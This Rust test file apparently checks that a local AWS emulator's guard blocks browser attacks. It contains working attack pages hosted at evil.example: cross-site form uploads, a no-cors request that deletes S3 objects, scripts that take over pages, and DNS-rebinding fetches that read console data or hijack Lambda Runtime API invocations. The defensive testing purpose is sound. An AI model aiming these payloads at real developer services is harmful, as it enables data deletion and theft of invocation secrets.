//! Attacks on the sandbox by web pages in a real browser. Each succeeds where the guard lets everything in.

mod attacker;
mod signing;

use super::{PATIENCE, post, project, start};
use attacker::{Attacker, document, rebound, visit};
use sandbox::Stack;
use sandbox::services::guard::Guard;
use sandbox::services::s3::{NewObject, ObjectHeaders, PutCondition};
use signing::form_fields;
pub(crate) use signing::presigned;
use tokio::task::JoinHandle;

const BUCKET: &str = "bucket";
const RUNTIME: &str = "/2018-06-01/runtime/invocation";

/// The address of AWS's services, without the scheme.
fn aws(stack: &Stack) -> String {
    stack.aws().endpoint_url().trim_start_matches("http://").to_owned()
}

/// Stores an HTML document with a script that shows that it ran.
async fn put(stack: &Stack, key: &str, html: &str) {
    let headers = ObjectHeaders { content_type: Some("text/html".to_owned()), ..ObjectHeaders::default() };
    let (metadata, condition) = (Default::default(), PutCondition::default());
    let bytes = html.to_owned().into();
    stack
        .aws()
        .s3()
        .put(
            BUCKET,
            NewObject { key: key.to_owned(), bytes, headers, metadata, condition, ..NewObject::default() },
        )
        .await
        .unwrap();
}

async fn with_bucket(builder: sandbox::StackBuilder) -> Stack {
    let stack = builder.start().await.unwrap();
    stack.aws().s3().create_bucket(BUCKET).unwrap();
    stack
}

/// The ways of a page on `page_host` into S3 on `aws_host` that were open.
async fn open_ways_into_s3(stack: &Stack, page_host: &str, aws_host: &str) -> Option<Vec<&'static str>> {
    let mut attacker = Attacker::start().await;
    let functions = attacker.functions();
    put(stack, "victim", "precious").await;
    put(stack, "framed.html", "<script>parent.postMessage('the frame ran', '*')</script>").await;
    put(stack, "opened.html", "harmless text<script>document.title = 'owned'</script>").await;
    let _ = stack.aws().s3().delete(BUCKET, "planted").await;
    let delete = presigned("POST", aws_host, &format!("/{BUCKET}"), "&delete=");
    let link = |key: &str| presigned("GET", aws_host, &format!("/{BUCKET}/{key}"), "");
    let (framed, opened) = (link("framed.html"), link("opened.html"));
    let fields = form_fields("planted");
    let html = format!(
        r#"<form method="post" action="http://{aws_host}/{BUCKET}" enctype="multipart/form-data" target="answer">{fields}
        <input type="file" name="file"></form><iframe name="answer"></iframe><iframe id="frame"></iframe><script>
        {functions}
        const loaded = frame => new Promise(done => frame.onload = done);
        const attack = async () => {{
            const [answer, frame] = document.querySelectorAll('iframe');
            const file = new DataTransfer();
            file.items.add(new File(['<script>'], 'x.html'));
            document.querySelector('input[type=file]').files = file.files;
            let answered = loaded(answer);
            document.forms[0].submit();
            await answered;
            const body = '<Delete><Object><Key>victim</Key></Object></Delete>';
            await tried(() => fetch('{delete}', {{mode: 'no-cors', method: 'POST', body}}));
            const ran = new Promise(done => onmessage = message => report(message.data).then(done));
            answered = loaded(frame);
            frame.src = '{framed}';
            await answered;
            await Promise.race([ran, new Promise(done => setTimeout(done, 500))]);
            await report('done');
        }};
        onload = attack;
        </script>"#
    );
    let _browser = visit(&attacker.page(page_host, "attack", html))?;
    let reports = attacker.reported("done").await;
    let by_link =
        attacker.page(page_host, "link", format!(r#"<meta http-equiv="refresh" content="0;url={opened}">"#));
    let (by_link, by_hand) = (document(&by_link).await?, document(&opened).await?);
    assert!(by_hand.contains("harmless text"), "a link works for a person: {by_hand}");
    let s3 = stack.aws().s3();
    let ways = [
        ("a form stores an object", s3.get(BUCKET, "planted").await.is_ok()),
        ("a text/plain request deletes an object", s3.get(BUCKET, "victim").await.is_err()),
        ("an object's script runs in a frame", reports.contains(&"the frame ran".to_owned())),
        ("an object opens by a link of another site", by_link.contains("harmless text")),
        (
            "an object's script runs in a window",
            [&by_link, &by_hand].iter().any(|page| page.contains("<title>owned")),
        ),
    ];
    Some(ways.into_iter().filter_map(|(way, is_open)| is_open.then_some(way)).collect())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_site_or_port_gets_nothing_done_in_a_browser() {
    let stack = with_bucket(project().functions(false)).await;
    let aws = aws(&stack);
    let localhost = aws.replace("127.0.0.1", "localhost");
    for (page_host, aws_host) in [("evil.example", &aws), ("localhost", &localhost), ("localhost", &aws)] {
        let Some(open) = open_ways_into_s3(&stack, page_host, aws_host).await else { return };
        assert_eq!(open, [""; 0], "{page_host} to {aws_host}");
    }
}

/// A page at the name that leads to `target` now: it reads `paths`, and reports each answer.
async fn read_by_rebinding(attacker: &mut Attacker, target: String, script: &str) -> Option<Vec<String>> {
    let page = format!("<script>{} {script}</script>", attacker.functions());
    let (host, server) = rebound(target, page).await;
    let browser = visit(&format!("http://{host}/page"));
    let reports = if browser.is_some() { Some(attacker.reported("done").await) } else { None };
    server.abort();
    reports
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_leads_here_reads_nothing_in_a_browser() {
    let stack = with_bucket(project().functions(false)).await;
    let mut attacker = Attacker::start().await;
    let script = "const attack = async () => {
        for (const path of ['/_sandbox/console.json', '/_sandbox/metrics', '/bucket/key', '/'])
            await report(await tried(async () => { const answer = await fetch(path); return `${path} ${answer.status} ${await answer.text()}`; }));
        await report('done');
    }; attack()";
    let Some(reports) = read_by_rebinding(&mut attacker, aws(&stack), script).await else { return };
    assert_eq!(reports.len(), 5, "{reports:?}");
    for report in &reports[..4] {
        assert!(report.contains(" 403 ") && report.contains("--allow-host rebound.example"), "{report}");
    }
}

/// A stack with one warm instance, and the address of its Runtime API.
async fn warm() -> (Stack, String) {
    let stack = start().await;
    let (_, environment) = post(&stack, "do-environment").await;
    let address = environment.lines().find_map(|line| line.strip_prefix("AWS_LAMBDA_RUNTIME_API="));
    let address = address.unwrap_or_else(|| panic!("{environment}")).to_owned();
    (stack, address)
}

/// Posts until `attack` is over; the answers that aren't the function's own.
async fn wrong_answers(stack: &Stack, attack: JoinHandle<()>) -> Vec<(u16, String)> {
    let mut wrong = Vec::new();
    while !attack.is_finished() {
        let answer = post(stack, "secret").await;
        if !answer.1.contains("secret") || answer.0 != 200 {
            wrong.push(answer);
        }
    }
    attack.await.unwrap();
    wrong
}

#[tokio::test(flavor = "multi_thread")]
async fn no_page_takes_an_invocation_in_a_browser() {
    let (stack, address) = warm().await;
    let mut attacker = Attacker::start().await;
    let functions = attacker.functions();
    let blind = format!(
        "<script>{functions} tried(() => fetch('http://{address}{RUNTIME}/next', {{mode: 'no-cors'}})).then(() => report('done'))</script>"
    );
    let Some(browser) = visit(&attacker.page("evil.example", "blind", blind)) else { return };
    let attack = tokio::spawn(async move {
        attacker.reported("done").await;
        drop(browser);
    });
    assert_eq!(wrong_answers(&stack, attack).await, [], "an invocation was taken");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_name_that_leads_here_answers_an_invocation_in_a_browser() {
    let (stack, address) = warm().await;
    let mut attacker = Attacker::start().await;
    let script = format!(
        "const attack = async () => {{
            const next = await fetch('{RUNTIME}/next');
            await report(`took ${{next.status}} ${{await next.text()}}`);
            const id = next.headers.get('lambda-runtime-aws-request-id');
            const body = JSON.stringify({{statusCode: 200, body: 'owned'}});
            const answer = await fetch(`{RUNTIME}/${{id}}/response`, {{method: 'POST', body}});
            await report(`answered ${{answer.status}}`);
            await report('done');
        }}; attack()"
    );
    let (sender, reports) = tokio::sync::oneshot::channel();
    let attack = tokio::spawn(async move {
        drop(sender.send(read_by_rebinding(&mut attacker, address, &script).await));
    });
    assert_eq!(wrong_answers(&stack, attack).await, [], "an invocation was answered");
    let Some(reports) = reports.await.unwrap() else { return };
    assert!(reports[0].starts_with("took 403") && !reports[0].contains("secret"), "{reports:?}");
    assert_eq!(reports[1], "answered 403");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_developers_own_page_uses_s3_in_a_browser() {
    let mut attacker = Attacker::start().await;
    let origin = format!("http://localhost:{}", attacker.port);
    let guard = Guard::default().allow_origin(origin.parse().unwrap());
    let stack = with_bucket(project().functions(false).guard(guard)).await;
    let aws = aws(&stack);
    let path = format!("/{BUCKET}/own");
    let (put, get) = (presigned("PUT", &aws, &path, ""), presigned("GET", &aws, &path, ""));
    let html = format!(
        "<script>{} const use = async () => {{
            await report(await tried(async () => {{
                const headers = {{'content-type': 'application/json', 'x-amz-meta-of': 'page'}};
                const put = await fetch('{put}', {{method: 'PUT', headers, body: '{{}}'}});
                const got = await fetch('{get}');
                return [put.status, put.headers.get('etag'), got.status, await got.text(), got.headers.get('x-amz-meta-of')].join(' ');
            }}));
            await report('done');
        }}; use()</script>",
        attacker.functions()
    );
    let url = attacker.page("localhost", "own", html);
    let Some(_browser) = visit(&url) else { return };
    let reports = attacker.reported("done").await;
    assert_eq!(reports[0], "200 \"99914b932bd37a50b983c5e7c90ae93b\" 200 {} page");
    // The same page under another name is another origin.
    let _browser = visit(&url.replace("localhost", "evil.example"));
    assert!(attacker.reported("done").await[0].contains("Failed to fetch"));
}

#[tokio::test(flavor = "multi_thread")]
async fn any_site_may_link_to_the_console_in_a_browser() {
    let stack = project().functions(false).start().await.unwrap();
    let attacker = Attacker::start().await;
    let refresh = |file: &str| {
        format!(
            r#"<meta http-equiv="refresh" content="0;url={}/_sandbox/{file}">"#,
            stack.aws().endpoint_url()
        )
    };
    let Some(console) = document(&attacker.page("evil.example", "console", refresh(""))).await else {
        return;
    };
    assert!(console.contains("Sandbox console") && console.contains("as of "), "with its script: {console}");
    let json = document(&attacker.page("evil.example", "json", refresh("console.json"))).await.unwrap();
    assert!(!json.contains("dead_letter_queue"), "{json}");
}
